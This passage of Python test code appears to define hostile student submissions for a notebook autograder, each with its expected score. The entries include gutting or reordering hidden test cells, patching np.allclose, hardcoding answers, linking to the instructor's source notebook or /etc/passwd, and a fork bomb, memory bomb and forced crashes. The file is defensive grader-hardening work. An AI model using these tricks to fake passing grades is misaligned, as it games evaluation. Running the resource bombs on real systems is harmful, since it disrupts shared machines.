                softmax_notebook(softmax=("def _row(z):\n    e = np.exp(z - z.max())\n    return e / e.sum()\n\n"
                                             "def _rows(Z):\n    return np.array([_row(z) for z in Z])\n\n"
                                             "def softmax(Z):\n    return _rows(Z)\n")),
                zero_cells={"test_softmax_vectorized"}),
        Hostile("edits_tests", "hidden test cells replaced by pass, uniform softmax",
                softmax_notebook(_edited_tests, softmax=(UNIFORM)), {"softmax"}),
        Hostile("tests_as_shows", "hidden test cells relabelled as cells that only show (not run when graded), "
                "and an own cell labelled so too, uniform softmax",
                softmax_notebook(_tests_as_shows, softmax=(UNIFORM)), {"softmax"}),
        Hostile("deletes_tests", "hidden test cells deleted, uniform softmax",
                softmax_notebook(_deleted_tests, softmax=(UNIFORM)), {"softmax"}),
        Hostile("retypes_tests", "hidden test cells turned into markdown, uniform softmax",
                softmax_notebook(_retyped_tests, softmax=(UNIFORM)), {"softmax"}),
        Hostile("reorders_tests", "hidden test cells moved after a cell that patches np.allclose",
                softmax_notebook(_tests_moved_to_the_end, softmax=(UNIFORM)), {"softmax"}),
        Hostile("infinite_loop", "softmax never returns",
                softmax_notebook(softmax=("def softmax(Z):\n    while True:\n        pass\n")), {"softmax"}),
        Hostile("ignores_interrupt", "ignores SIGINT, then loops forever: the kernel must be restarted",
                softmax_notebook(softmax=("import signal\n\ndef softmax(Z):\n"
                                             "    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                             "    while True:\n        pass\n")), {"softmax"}),
        Hostile("deep_recursion", "logsumexp recurses without end under sys.setrecursionlimit(10**8)",
                softmax_notebook(logsumexp=DEEP_RECURSION), {"logsumexp"}),
        Hostile("c_stack_recursion", "log_softmax recurses through map until the C stack overflows (SIGSEGV)",
                softmax_notebook(log_softmax=C_RECURSION), {"log_softmax"}),
        Hostile("blocks_interrupt", "cross_entropy loops with a SIGINT handler that never returns",
                softmax_notebook(cross_entropy=BLOCKS_INTERRUPT), {"cross_entropy"}),
        Hostile("exits_in_function", "logsumexp calls os._exit(1)",
                softmax_notebook(logsumexp=("import os\n\ndef logsumexp(Z):\n    os._exit(1)\n")), {"logsumexp"}),
        Hostile("exits_in_free_cell", "a free cell calls os._exit(0) between exercises (all answers right)",
                softmax_notebook(_exit_in_a_free_cell)),
        Hostile("segfaults", "log_softmax crashes the interpreter (SIGSEGV)",
                softmax_notebook(log_softmax=("import faulthandler\n\ndef log_softmax(Z):\n"
                                                 "    faulthandler._sigsegv()\n")), {"log_softmax"}),
        Hostile("memory_bomb", "cross_entropy allocates until memory runs out",
                softmax_notebook(cross_entropy=("def cross_entropy(Z, Y):\n    blocks = []\n    while True:\n"
                                                   "        blocks.append(np.ones(10**8))\n")), {"cross_entropy"}),
        Hostile("fork_bomb", "softmax forks forever",
                softmax_notebook(softmax=("import os\n\ndef softmax(Z):\n    while True:\n        os.fork()\n")),
                {"softmax"}),
        Hostile("huge_print", "a free cell prints two million lines (all answers right)",
                softmax_notebook(_huge_print)),
        Hostile("fills_records_folder", "disk: a free cell writes 48 MiB into its records folder (all answers right)",
                _free_cell(FILL_RECORDS)),
        Hostile("fills_connection_folder", "disk: a free cell makes 3,000 files in its connection folder (all answers "
                "right)", _free_cell(FILL_CONNECTION)),
        Hostile("stderr_noise", "right answers; softmax writes to stderr (Python and fd 2) at every call",
                softmax_notebook(softmax=NOISY)),
        Hostile("corrupt_json", "softmax.ipynb is not valid JSON",
                lambda folder: write(folder, SOFTMAX, {"softmax.ipynb": b'{"cells": [{"cell_type": "code", '}),
                full=set(), zero=set(SOFTMAX_FUNCTIONS)),
        Hostile("renamed_notebook", "right answers in softmax-final.ipynb",
                lambda folder: write(folder, SOFTMAX, {"softmax-final.ipynb": honest()["softmax.ipynb"]})),
        Hostile("extra_notebook", "right answers plus scratch.ipynb that imports the reference",
                lambda folder: write(folder, SOFTMAX, {**honest(), "scratch.ipynb": _scratch()})),
        Hostile("missing_notebook", "03_gradients without mlp_gradients.ipynb",
                lambda folder: write(folder, "03_gradients", {"layers.ipynb": honest("03_gradients")["layers.ipynb"]}),
                zero={"grad_b2", "grad_W2", "grad_b1", "grad_W1", "compute_gradients"},
                assignments=("03_gradients",)),
        Hostile("sklearn_one_hot", "one_hot built on scikit-learn's OneHotEncoder",
                honest_but("01_one_hot", one_hot=SKLEARN_ONE_HOT), {"one_hot"}, assignments=("01_one_hot",)),
        Hostile("scipy_fast_conv", "conv_forward_fast built on scipy.signal.fftconvolve",
                honest_but("04_convolution", conv_forward_fast=SCIPY_CONV), {"conv_forward_fast"},
                assignments=("04_convolution",)),
        Hostile("hardcodes_buggy_layers", "find_buggy_layers returns the visible test's answer",
                honest_but("05_gradient_check", find_buggy_layers=HARDCODE_BUGGY), {"find_buggy_layers"},
                assignments=("05_gradient_check",)),
        Hostile("some_cells_filled", "only softmax and logsumexp written",
                lambda folder: write(folder, SOFTMAX, submission(
                    Student("x", "", {"softmax": REFERENCE, "logsumexp": REFERENCE}, default=BLANK), SOFTMAX)),
                zero={"log_softmax", "cross_entropy", "cross_entropy_grad"}),
        Hostile("links_source_notebook", "links: softmax.ipynb is a symbolic link to the instructor's source notebook",
                _linked(lambda folder, course: (folder / "softmax.ipynb").symlink_to(
                    course / "source" / SOFTMAX / "softmax.ipynb")), full=set(), zero=set(SOFTMAX_FUNCTIONS)),
        Hostile("hard_links_source", "links: softmax.ipynb is a hard link to the instructor's source notebook",
                _linked(lambda folder, course: os.link(course / "source" / SOFTMAX / "softmax.ipynb",
                                                       folder / "softmax.ipynb")),
                full=set(), zero=set(SOFTMAX_FUNCTIONS)),
        Hostile("links_classmate_folder", "links: the 02_softmax folder is a symbolic link to a classmate's",
                _linked_folder("aaa_first_honest"), full=set(), zero=set(SOFTMAX_FUNCTIONS)),
        Hostile("links_system_file", "links: right answers, and data.csv a symbolic link to /etc/passwd",
                _with_link(softmax_notebook(), "data.csv", "/etc/passwd")),
    ]
    return entries + escapes()


def _linked(make):
    """A builder whose assignment folder is made by ``make(folder, course root)`` (a link where a notebook goes)."""
    def build(folder):
        target = Path(folder) / SOFTMAX
        target.mkdir(parents=True)
        make(target, Path(folder).parents[1])
    return build


def _linked_folder(classmate):
    def build(folder):
        Path(folder).mkdir(parents=True)
        (Path(folder) / SOFTMAX).symlink_to(Path(folder).parent / classmate / SOFTMAX)
    return build


def _with_link(build, name, target):
    def linked(folder):
        build(folder)
        (Path(folder) / SOFTMAX / name).symlink_to(target)
    return linked


def _scratch():
    nb = nbformat.v4.new_notebook()
    nb.cells.append(nbformat.v4.new_code_cell("from solutions_lib.softmax_family import softmax\nprint(softmax)"))
    return nb


def expected_full(entry, functions):
    """The functions that ``entry`` must keep full points on."""
    if entry.full is not None:
        return set(entry.full)
    return set(functions) - set(entry.zero)
